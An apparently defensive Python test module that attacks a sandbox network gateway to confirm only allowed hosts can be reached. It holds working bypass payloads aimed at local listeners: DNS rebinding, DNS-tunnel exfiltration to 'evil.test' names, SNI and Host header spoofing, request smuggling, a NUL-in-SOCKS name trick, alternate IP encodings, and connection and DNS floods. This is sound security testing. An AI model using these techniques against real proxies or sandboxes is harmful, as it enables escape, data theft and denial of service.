"""G: the network with one host allowed: only that host is reached, whatever name, header or TLS hello the guest sends.

The control is a check of the gateway, which the arm "off" removes from this process until the arm ends. Every target is
a listener that the case starts on this machine; names are looked up in a table of the case.
"""

from __future__ import annotations

import contextlib

from ringfence import Network, Policy, Rule
from ringfence.gateway import budget, dial, dns, interfaces, proxy, registration, rules, tunnel
from ringfence.gateway import dns as resolving
from ringfence.gateway.http import request
from ringfence.gateway.service import service
from ringfence.gateway.types import Target
from ringfence.host import import_path
from ringfence.policy.hosts import HostPattern
from ringfence_attacks.arena import LIMITS
from ringfence_attacks.case import DOS, ESCAPE, HOST_CODE, LEAK, NotApplicable, Seen, attack, cases
from ringfence_attacks.witnesses import replaced

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from ringfence_attacks.arena import Arm
    from ringfence_attacks.witnesses import Listener

_LOOPBACK = "127.0.0.1"

_GUEST = """
import socket, ssl
def send(address, *parts, wait=True):
    with socket.create_connection(address, timeout=3) as sock:
        for part in parts:
            sock.sendall(part if isinstance(part, bytes) else part.encode("latin-1"))
            if wait: sock.settimeout(1); got = sock.recv(4096)
        if not wait: time.sleep(0.4)  # time to arrive, if the gateway lets the data through
        return got if wait else None
def hello(name):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = name is not None
    try: context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError: pass
    return outgoing.read()
proxy = ("127.0.0.1", 3128)
"""


def _careless(arm: Arm, owner: object, name: str, value: object) -> None:
    """Replace a check of the gateway by a careless check until the arm ends, if this is the arm "off"."""
    if arm.off:
        arm.enter(replaced(owner, name, value))


def _nothing(*_: object, **__: object) -> None:
    """Do nothing: a check that never refuses."""


def _internet(arm: Arm, names: dict[str, str]) -> list[str]:
    """Make the gateway resolve only these names until the arm ends. Returns a list that gets each name looked up."""
    looked_up: list[str] = []

    def lookup(name: str, port: int) -> list[str]:
        del port
        looked_up.append(name)
        # A name is read up to a NUL, as libraries in C do.
        found = names.get(name.partition("\0")[0])
        if found is None:
            raise OSError("no such name")
        return [found]

    arm.enter(replaced(service().resolver, "lookup", lookup))
    return looked_up


def _policy(
    *allow: str, private: bool = True, rules: tuple[Rule, ...] = (), upload: str = "1M", connections: int = 64
) -> Policy:
    ranges = ["127.0.0.0/8"] if private else []
    network = Network(allow=list(allow), rules=list(rules), private=ranges, upload=upload, connections=connections)
    return Policy(limits=LIMITS, network=network)


def _needs_http() -> None:
    """Raise NotApplicable where the gateway cannot read plain HTTP, and therefore refuses it."""
    if not import_path.is_installed("h11"):
        raise NotApplicable("plain HTTP is refused: the package h11 is not installed")


def _came(listener: Listener, words: str, *, with_: bytes = b"") -> Seen:
    came = [data for data in listener.received() if with_ in data]
    return Seen(bool(came), f"{len(came)} connections; {words}")


@attack(
    "G08",
    "a name that leads to a private address is not dialled",
    ESCAPE,
    off=HOST_CODE,
    needs="network",
    label="address check",
)
def rebinding(arm: Arm) -> Seen:
    listener = arm.listen_tcp()
    _internet(arm, {"rebind.test": _LOOPBACK})
    _careless(arm, dial, "fault", _nothing)
    code = _GUEST + "attempt('tls', send, ('rebind.test', port), hello('rebind.test'))"
    policy = _policy(f"rebind.test:{listener.port}", private=False)
    report = arm.python(code, policy=policy, port=listener.port)
    return _came(listener, report.words())


_EXFIL = """
import socket
for name in ("secret-data.evil.test", "more-data.web.test.evil.test"):
    attempt(name, socket.getaddrinfo, name, 443)
"""


@attack("G09", "a name that is not permitted is not looked up", LEAK, off=HOST_CODE, label="own resolver")
def dns_tunnel(arm: Arm) -> Seen:
    looked_up = _internet(arm, {"evil.test": _LOOPBACK})
    whole = resolving.lookup

    def forwarding(directory: interfaces.Directory, name: str) -> str | None:
        with contextlib.suppress(OSError):
            service().resolver.lookup(name, 443)
        return whole(directory, name)

    _careless(arm, resolving, "lookup", forwarding)
    report = arm.python(_EXFIL, policy=_policy("web.test"))
    return Seen(bool(looked_up), f"{len(looked_up)} look-ups; {report.words()}")


@attack("G10", "a TLS hello for another server does not pass", ESCAPE, off=HOST_CODE, label="SNI check")
def other_server_name(arm: Arm) -> Seen:
    listener = arm.listen_tcp()
    _internet(arm, {"web.test": _LOOPBACK})
    _careless(arm, tunnel, "_check_name", _nothing)
    code = _GUEST + (
        "attempt('direct', send, ('web.test', port), hello('evil.test'))\n"
        "attempt('connect', send, proxy, 'CONNECT web.test:%d HTTP/1.1\\r\\n\\r\\n' % port, hello('evil.test'))\n"
        "cut = hello('evil.test')\n"
        "attempt('split', send, ('web.test', port), cut[:7], cut[7:40], cut[40:], wait=False)\n"
    )
    report = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
    return _came(listener, report.words(), with_=b"evil.test")


@attack("G10-literal", "CONNECT to an address that is not listed leads nowhere", ESCAPE, off=HOST_CODE, label="rules")
def connect_to_address(arm: Arm) -> Seen:
    listener = arm.listen_tcp()
    _careless(arm, rules.NetworkRules, "decide", _permit_all)
    code = _GUEST + (
        "for name in ('127.0.0.1', '127.1', '0x7f.1', '2130706433', '[::ffff:127.0.0.1]'):\n"
        "    request = 'CONNECT %s:%d HTTP/1.1\\r\\n\\r\\n' % (name, port)\n"
        "    attempt(name, send, proxy, request, hello(None))\n"
    )
    report = arm.python(code, policy=_policy("web.test"), port=listener.port)
    return _came(listener, report.words())


def _permit_all(_: rules.NetworkRules, name: str, port: int) -> rules.Verdict:
    return rules.Verdict(None, Target(name, port, None))


@attack(
    "G11", "a Host header for another host does not pass", ESCAPE, off=HOST_CODE, needs="network", label="Host check"
)
def other_host_header(arm: Arm) -> Seen:
    _needs_http()
    listener = arm.listen_tcp()
    _internet(arm, {"web.test": _LOOPBACK})
    _careless(arm, request, "check_authority", _nothing)
    code = _GUEST + (
        "attempt('direct', send, ('web.test', port), 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')\n"
        "attempt('proxy', send, proxy, 'GET http://web.test:%d/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' % port)\n"
    )
    report = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
    return _came(listener, report.words(), with_=b"evil.test")


@attack(
    "G12",
    "a request that parsers read in two ways does not pass",
    ESCAPE,
    off=HOST_CODE,
    needs="network",
    label="strict heads",
)
def smuggling(arm: Arm) -> Seen:
    _needs_http()
    listener = arm.listen_tcp()
    _internet(arm, {"web.test": _LOOPBACK})
    for owner in (request, proxy):
        _careless(arm, owner, "check_raw_head", _nothing)
    code = _GUEST + (
        "start = 'POST / HTTP/1.1\\r\\nHost: web.test:%d\\r\\n' % port\n"
        "for extra in ('A: b\\nC: d\\r\\n', 'A: b\\r\\n folded\\r\\n', 'Content-Length: 4\\r\\n' * 2):\n"
        "    attempt(extra, send, ('web.test', port), start + extra + '\\r\\nabcd')\n"
    )
    report = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
    return _came(listener, report.words())


@attack(
    "G13",
    "a redirect to a host that is not permitted is not followed for the guest",
    ESCAPE,
    off=HOST_CODE,
    needs="network",
    label="rules",
)
def redirect(arm: Arm) -> Seen:
    _needs_http()
    listener = arm.listen_tcp()
    _internet(arm, {"evil.test": _LOOPBACK})
    _careless(arm, rules.NetworkRules, "decide", _permit_all)
    code = _GUEST + (
        "request = 'GET http://evil.test:%d/ HTTP/1.1\\r\\nHost: evil.test:%d\\r\\n\\r\\n' % (port, port)\n"
        "attempt('redirected', send, proxy, request)"
    )
    report = arm.python(code, policy=_policy("web.test"), port=listener.port)
    return _came(listener, report.words())


@attack(
    "G14",
    "a name that only ends like a permitted name does not pass",
    ESCAPE,
    off=HOST_CODE,
    needs="network",
    label="name grammar",
)
def lookalike_names(arm: Arm) -> Seen:
    _needs_http()
    listener = arm.listen_tcp()
    _internet(arm, {"evilweb.test": _LOOPBACK})
    _careless(arm, HostPattern, "matches", lambda pattern, name: name.endswith(pattern.name))
    code = _GUEST + (
        "for name in ('evilweb.test', 'EVILWEB.test.', 'web.test.evil.test', 'x@web.test'):\n"
        "    request = 'GET / HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (name, port)\n"
        "    attempt(name, send, (name, port), request)"
    )
    report = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
    return _came(listener, report.words())


@attack("G15", "a NUL in a SOCKS name does not lead to another host", ESCAPE, off=HOST_CODE, label="name grammar")
def nul_in_socks(arm: Arm) -> Seen:
    """A proxy of another project was broken this way: the suffix matched, and the resolver read up to the NUL."""
    listener = arm.listen_tcp()
    _internet(arm, {"evil.test": _LOOPBACK})
    _careless(arm, proxy, "canonical_host", str.lower)
    code = _GUEST + (
        "name = b'evil.test\\0.web.test'\n"
        "request = b'\\5\\1\\0\\3' + bytes([len(name)]) + name + port.to_bytes(2, 'big')\n"
        "attempt('socks', send, proxy, b'\\5\\1\\0', request, b'hello')\n"
    )
    rule = Rule(f"*.web.test:{listener.port}", protocol="tcp")
    report = arm.python(code, policy=_policy(rules=(rule,)), port=listener.port)
    return _came(listener, report.words())


@attack(
    "G25", "no data passes while the gateway is down", ESCAPE, off=HOST_CODE, label="listeners of the gateway's own"
)
def gateway_down(arm: Arm) -> Seen:
    """On: the gateway is stopped before the guest connects. Off: the gateway runs, and the connection arrives."""
    listener = arm.listen_tcp()
    _internet(arm, {"web.test": _LOOPBACK})
    rule = Rule(f"web.test:{listener.port}", protocol="tcp")
    box = arm.sandbox(_policy(rules=(rule,)))
    resolved = arm.python("import socket\ntell(at=socket.gethostbyname('web.test'))", box=box).said("at")
    if not arm.off:
        arm.enter(_stopped())
    code = _GUEST + "attempt('tcp', send, (at, port), b'hello', wait=False)"
    report = arm.python(code, box=box, at=resolved, port=listener.port)
    return _came(listener, report.words())


@contextlib.contextmanager
def _stopped() -> Iterator[None]:
    service().stop()
    try:
        yield
    finally:
        service().start()


@attack("G26", "what is sent beyond the budget does not arrive", DOS, off=HOST_CODE, label="upload budget")
def upload_budget(arm: Arm) -> Seen:
    listener = arm.listen_tcp()
    _internet(arm, {"web.test": _LOOPBACK})
    _careless(arm, registration.Registration, "count_up", _nothing)
    code = _GUEST + "attempt('tcp', send, ('web.test', port), b'x' * 3000, wait=False)"
    rule = Rule(f"web.test:{listener.port}", protocol="tcp")
    report = arm.python(code, policy=_policy(rules=(rule,), upload="1K"), port=listener.port)
    came = sum(len(data) for data in listener.received())
    return Seen(came > 1024, f"{came} bytes; {report.words()}")


_HOLDS = (
    _GUEST
    + """
held = []
for _ in range(40):
    try:
        sock = socket.create_connection(("web.test", port), timeout=3)
        sock.sendall(b"one more")
        held.append(sock)
    except OSError:
        pass
time.sleep(0.5)
tell(held=len(held))
"""
)


@attack("F26", "a flood of connections ends at the connection budget", DOS, off=HOST_CODE, label="connection budget")
def connection_flood(arm: Arm) -> Seen:
    """Open forty connections at once where eight are allowed, and keep them open. The witness counts connections that
    sent something."""
    listener = arm.listen_tcp()
    _internet(arm, {"web.test": _LOOPBACK})
    rule = Rule(f"web.test:{listener.port}", protocol="tcp")
    policy = _policy(rules=(rule,), connections=64 if arm.off else 8)
    report = arm.python(_HOLDS, policy=policy, port=listener.port)
    came = sum(bool(data) for data in listener.received(0.05))
    return Seen(came > 8, f"{came} connections came; {report.words()}")


_ASKS = """
import socket
query = b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3web\\4test\\0\\0\\1\\0\\1"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    sock.connect(("127.0.0.1", 53))
    for _ in range(400):
        sock.send(query)
        time.sleep(0.0002)
    time.sleep(0.5)
"""


@attack("F27", "a flood of DNS queries ends at the query budget", DOS, off=HOST_CODE, label="query budget")
def query_flood(arm: Arm) -> Seen:
    """Send four hundred queries where the budget, made small here, has fifty and twenty more a second. The witness
    counts the queries that the gateway read."""
    read: list[bytes] = []
    whole = dns.parse

    def counting(data: bytes) -> dns.Query:
        read.append(data)
        return whole(data)

    arm.enter(replaced(dns, "parse", counting))
    arm.enter(replaced(registration, "SANDBOX_BURST", 50.0))
    arm.enter(replaced(registration, "SANDBOX_RATE", 20.0))
    _careless(arm, budget.Bucket, "take", lambda _: True)
    report = arm.python(_ASKS, policy=_policy("web.test"))
    return Seen(len(read) > 200, f"{len(read)} queries were read; {report.words()}")


CASES = cases(globals())
